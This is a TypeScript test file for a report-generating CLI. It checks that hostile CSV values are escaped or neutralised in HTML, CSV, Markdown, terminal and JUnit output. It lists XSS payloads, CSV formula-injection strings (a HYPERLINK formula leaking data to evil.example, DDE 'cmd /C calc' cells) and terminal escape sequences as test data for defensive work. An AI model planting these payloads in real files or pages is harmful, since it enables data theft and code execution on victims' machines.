/**
 * Reports cannot hurt their readers: values planted in an input CSV
 * (fixtures/security/hostile-values.csv: formulas, HTML, Markdown, terminal
 * escapes, XML breakers) go through the real CLI into every format.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { escapeHtml, escapeMarkdown, escapeXml, neutraliseCsvCell, terminalSafe } from '../../src/report/sanitise.js';
import { runCli } from '../helpers/run-cli.js';
import { scratchDir } from '../helpers/fuzz-helpers.js';

const INPUT = 'fixtures/security/hostile-values.csv';
const { dir, cleanup } = scratchDir('report-safety');
afterAll(cleanup);

let terminal = '';
const files: Record<string, string> = {};
beforeAll(async () => {
  const run = await runCli(['audit', INPUT, '--format', 'terminal,json,csv,markdown,html,junit', '--out', dir, '--no-color']);
  expect(run.exitCode).toBe(1); // NCRS-001 fails and two rows are rejected
  terminal = run.stdout;
  for (const name of ['report.json', 'report.csv', 'report.md', 'report.html', 'report.junit.xml']) files[name] = readFileSync(join(dir, name), 'utf8');
});

/** The raw payloads as they sit in the input. */
const HTML_PAYLOADS = ['<script>alert("id")</script>', '<img src=x onerror=alert("district")>', '"><svg onload=alert(1)>', '<img src=x onerror=alert(2)>'];
// eslint-disable-next-line no-control-regex
const TERMINAL_ESCAPE = /\u001b|\u0007|\u009b/;

describe('every value reaches the reports intact (JSON keeps the data as it was)', () => {
  it('the JSON report holds the planted record ids verbatim', () => {
    const report = JSON.parse(files['report.json']!) as { findings: { recordId: string }[]; rejected: { reason: string }[] };
    const ids = report.findings.map((f) => f.recordId);
    expect(ids).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"click me")');
    expect(ids).toContain('<script>alert("id")</script>');
    expect(report.rejected.map((r) => r.reason).join('\n')).toContain('<img src=x onerror=alert(2)>');
  });
});

describe('HTML escapes every value', () => {
  it.each(HTML_PAYLOADS)('%s appears only escaped', (payload) => {
    expect(files['report.html']).not.toContain(payload);
  });

  it('a Content-Security-Policy forbids every script, even one escaping missed', () => {
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(files['report.html']!)?.[1];
    expect(csp).toMatch(/default-src 'none'/);
    expect(csp).not.toMatch(/script-src/);
  });

  it('no planted tag, event handler or javascript: URL survives', () => {
    const html = files['report.html']!;
    expect(html).not.toMatch(/<(script|img|svg)\b[^>]*(alert|onerror|onload)/i);
    expect(html).not.toMatch(/href\s*=\s*["']?\s*javascript:/i);
    expect(html).toContain('&lt;img src=x onerror=alert(&quot;district&quot;)&gt;');
  });
});

describe('CSV neutralises formula cells', () => {
  const rows = () => parse(files['report.csv']!, { columns: true }) as Record<string, string>[];

  it('no cell starts with = + - @, a tab or CR', () => {
    const cells = rows().flatMap((r) => Object.values(r));
    expect(cells.length).toBeGreaterThan(0);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each([
    ['record_id', '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'],
    ['record_id', "+SUM(1+1)*cmd|' /C calc'!A0"],
    ['record_id', "-2+3+cmd|' /C calc'!A0"],
    ['record_id', '@cmd'],
    ['district', "=cmd|' /C calc'!A0"],
    ['district', '@SUM(1+1)'],
    ['district', '+Leeds'],
  ])('%s %s is written with a leading apostrophe', (column, value) => {
    expect(rows().map((r) => r[column])).toContain(`'${value}`);
  });

  it.each([['\tTAB'], ['\rCR'], ['=1'], ['+1'], ['-1'], ['@x']])('neutraliseCsvCell(%j) (tab and CR cannot be planted: input is trimmed)', (cell) => {
    expect(neutraliseCsvCell(cell)).toBe(`'${cell}`);
  });
});

describe('Markdown escapes table syntax', () => {
  it('every table row has exactly its columns (no planted pipe splits a cell)', () => {
    const lines = files['report.md']!.split('\n');
    let columns = 0;
    for (const line of lines) {
      if (!line.startsWith('|')) { columns = 0; continue; }
      const pipes = line.match(/(?<!\\)\|/g)!.length;
      if (columns === 0) columns = pipes; // the header row sets the width
      expect(pipes, line).toBe(columns);
    }
    expect(files['report.md']).toContain('Brad\\|ford');
  });

  it('no raw HTML, link syntax or terminal escape survives (outside code blocks, where text is inert)', () => {
    const md = files['report.md']!.replace(/^(`{3,})text\n[\s\S]*?^\1$/gm, '');
    expect(md).not.toMatch(/^```/m);
    for (const payload of HTML_PAYLOADS) expect(md).not.toContain(payload);
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(files['report.md']).not.toMatch(TERMINAL_ESCAPE);
  });
});

describe('terminal and JUnit output', () => {
  it('the terminal report carries no escape sequence from the input', () => {
    expect(terminal).toContain('Wakefield');
    expect(terminal).not.toMatch(TERMINAL_ESCAPE);
  });

  it('JUnit XML escapes markup and drops characters XML forbids', () => {
    const xml = files['report.junit.xml']!;
    for (const payload of HTML_PAYLOADS) expect(xml).not.toContain(payload);
    expect(xml).not.toContain('x]]><!--');
    // eslint-disable-next-line no-control-regex
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
  });
});

describe('the escaping helpers, one table', () => {
  it.each([
    [escapeHtml, '<a href="x">\'&', '&lt;a href=&quot;x&quot;&gt;&#39;&amp;'],
    [escapeHtml, 'a\u001b[2J\u0007\u009b\u202eb', 'a\\x1b[2J\\x07\\x9b\\u202eb'],
    [escapeXml, '<\u0000]]>&', '&lt;\uFFFD]]&gt;&amp;'],
    [escapeMarkdown, 'a|b\n[x](y)\u001b[2J', 'a\\|b \\[x\\](y)\\\\x1b\\[2J'],
    [escapeMarkdown, 'a\u202eb\u2028c\u2029d', 'a\\\\u202eb\\\\u2028c\\\\u2029d'],
    [terminalSafe, '\u001b]8;;http://x\u0007', '\\x1b]8;;http://x\\x07'],
    [terminalSafe, 'Calder\u202edale\u2066\u0085', 'Calder\\u202edale\\u2066\\x85'],
  ] as const)('%o', (fn, input, output) => {
    expect(fn(input)).toBe(output);
  });
});
